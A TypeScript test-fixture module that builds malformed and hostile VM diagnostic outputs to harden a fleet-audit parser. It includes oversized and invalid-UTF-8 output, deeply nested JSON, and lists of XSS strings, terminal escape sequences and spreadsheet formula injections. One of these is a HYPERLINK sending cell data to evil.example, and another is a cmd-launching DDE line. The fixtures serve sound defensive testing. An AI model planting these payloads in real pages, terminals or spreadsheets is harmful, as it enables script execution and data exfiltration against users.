import { formatDiagnosticOutput, splitDiagnosticOutput, type Section } from '../../lib/core/diagnostic-output.ts';
import { MAX_VM_OUTPUT_BYTES } from '../../lib/core/evidence-limits.ts';
import { SeededRandom } from '../../sim/random.ts';

/**
 * Outputs a VM could print instead of (or around) the diagnostic script's, made from that VM's genuine
 * output so that only the hostile part differs. Everything is generated: nothing large lives in git.
 */

/** A VM's genuine output, taken apart to be put back together with something hostile in it. */
export interface GenuineOutput {
  text: string;
  boundary: string;
  sections: Section[];
}

export function takeApart(text: string): GenuineOutput {
  const boundary = /^FLEET-AUDIT-DIAGNOSTICS v1 boundary=(?<boundary>\S+)$/m.exec(text)?.groups?.boundary;
  const split = splitDiagnosticOutput(text);
  if (!boundary || split.problems.length > 0) throw new Error('the genuine output is not well-formed diagnostic output');
  return { text, boundary, sections: [...split.sections.values()] };
}

/** The output again, each section passed through `change` (which may return several, or none). */
export function rebuild(genuine: GenuineOutput, change: (section: Section) => Section | Section[]): string {
  return formatDiagnosticOutput(genuine.boundary, genuine.sections.flatMap(change));
}

/** The output with the named sections' content replaced. */
export function withContent(genuine: GenuineOutput, contents: Record<string, string>): string {
  return rebuild(genuine, (s) => (Object.hasOwn(contents, s.name) ? { ...s, content: contents[s.name]! } : s));
}

/** Stands in the stored file for raw bytes that a JSON writer cannot write (they are not UTF-8). */
export const RAW_BYTES_PLACEHOLDER = 'RAW-BYTES-PLACEHOLDER-5b1f';

/** Byte sequences no UTF-8 decoder accepts: stray continuation, overlong, surrogate, past U+10FFFF, cut. */
export const INVALID_UTF8 = Buffer.from([
  0x80, 0xbf, 0xc0, 0xaf, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80, 0xfe, 0xff, 0xe2, 0x82,
]);

/** The genuine output grown, inside its logs section, to `bytes` bytes exactly (ASCII, so bytes = characters). */
export function grownTo(genuine: GenuineOutput, bytes: number): string {
  const logs = genuine.sections.find((s) => s.name === 'logs')?.content ?? '';
  const without = withContent(genuine, { logs: `${logs}\n` });
  const filler = bytes - Buffer.byteLength(without);
  if (filler < 0) throw new RangeError(`the genuine output already holds ${Buffer.byteLength(without)} bytes`);
  const line = `${'x'.repeat(79)}\n`;
  const padding = line.repeat(Math.floor(filler / line.length)) + 'y'.repeat(filler % line.length);
  return withContent(genuine, { logs: `${logs}\n${padding}` });
}

/**
 * The genuine output with two-byte characters (U+00E9) added to its logs section until it holds at least
 * `bytes` bytes of UTF-8: over a byte limit while still about half of it in characters.
 */
export function grownWithTwoByteCharacters(genuine: GenuineOutput, bytes: number): string {
  const logs = genuine.sections.find((s) => s.name === 'logs')?.content ?? '';
  const without = Buffer.byteLength(withContent(genuine, { logs: `${logs}\n` }));
  return withContent(genuine, { logs: `${logs}\n${'\u00e9'.repeat(Math.max(0, Math.ceil((bytes - without) / 2)))}` });
}

/** `count` bytes of seeded noise, every byte value equally likely, as a string of U+0000–U+00FF. */
export function binaryNoise(seed: number, count: number): string {
  const rnd = new SeededRandom(seed);
  const bytes = Buffer.alloc(count);
  for (let i = 0; i < count; i++) bytes[i] = rnd.int(0, 255);
  return bytes.toString('latin1');
}

/**
 * `count` sections in the script's format, each empty and marked cut, with the shortest boundary the format
 * allows (8 characters after @@) and short names of one width: about 70 bytes a section. Built by copying
 * one section's bytes and writing each name into its copy, since a million strings would be slow to make.
 */
export function tinyCutSections(count: number): string {
  if (count > NAME_RADIX ** NAME_DIGITS) throw new RangeError(`at most ${NAME_RADIX ** NAME_DIGITS} tiny sections have distinct names`);
  const boundary = '@@aaaaaaaa';
  const header = `FLEET-AUDIT-DIAGNOSTICS v1 boundary=${boundary}\n`;
  const placeholder = 'c'.padEnd(NAME_DIGITS + 1, '0');
  const template = Buffer.from(`${boundary} BEGIN ${placeholder}\n\n${boundary} END ${placeholder} rc=0 cut=1 missing=-\n`, 'latin1');
  const names = [template.indexOf(placeholder) + 1, template.lastIndexOf(placeholder) + 1];
  const footer = `${boundary} DONE sections=${count}\n`;
  const out = Buffer.alloc(header.length + count * template.length + footer.length);
  let at = out.write(header, 0, 'latin1');
  for (let i = 0; i < count; i++) {
    template.copy(out, at);
    for (let d = NAME_DIGITS - 1, rest = i; d >= 0; d--, rest = Math.floor(rest / NAME_RADIX)) {
      const digit = NAME_ALPHABET.charCodeAt(rest % NAME_RADIX);
      for (const offset of names) out[at + offset + d] = digit;
    }
    at += template.length;
  }
  out.write(footer, at, 'latin1');
  return out.toString('latin1');
}

const NAME_ALPHABET = '0123456789abcdefghijklmnopqrstuvwxyz';
const NAME_RADIX = NAME_ALPHABET.length;
const NAME_DIGITS = 4;

/** The name of the `index`th of tinyCutSections (`c0000`, `c0001`… in base 36). */
export function tinyCutSectionName(index: number): string {
  return `c${index.toString(NAME_RADIX).padStart(NAME_DIGITS, '0')}`;
}

/** How many tinyCutSections fit in the output limit, with room to spare. */
export function tinyCutSectionsUnderTheLimit(): number {
  const perSection = Buffer.byteLength(tinyCutSections(2)) - Buffer.byteLength(tinyCutSections(1));
  return Math.floor((MAX_VM_OUTPUT_BYTES - 4096) / perSection);
}

/** `depth` nested JSON objects (`{"a":{"a":…}}`), valid JSON that a recursive walk cannot survive. */
export function nestedObjects(depth: number): string {
  return `${'{"a":'.repeat(depth)}0${'}'.repeat(depth)}`;
}

/** `depth` nested JSON arrays. */
export function nestedArrays(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

/** Payloads that would run, or break out of their cell, in an HTML page. */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '"><img src=x onerror=alert(3)>',
  "'><svg onload=alert(4)>",
  '</td></tr></table><iframe src="javascript:alert(5)"></iframe>',
  '<!-- </pre></details> -->',
  '&lt;script&gt; &amp; &#60;',
] as const;

/** Text that drives a terminal: clear screen, cursor moves, a window title, an OSC 8 link, a bell, bidi overrides. */
export const TERMINAL_PAYLOADS = [
  '\u001b[2J\u001b[1;1H',
  '\u001b]0;pwned\u0007',
  '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  '\u009b31m',
  'ab\rCOMPLIANT\u0008\u0008',
  '\u202eevil\u202c',
] as const;

/** Cells a spreadsheet would run as a formula. */
export const CSV_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
] as const;
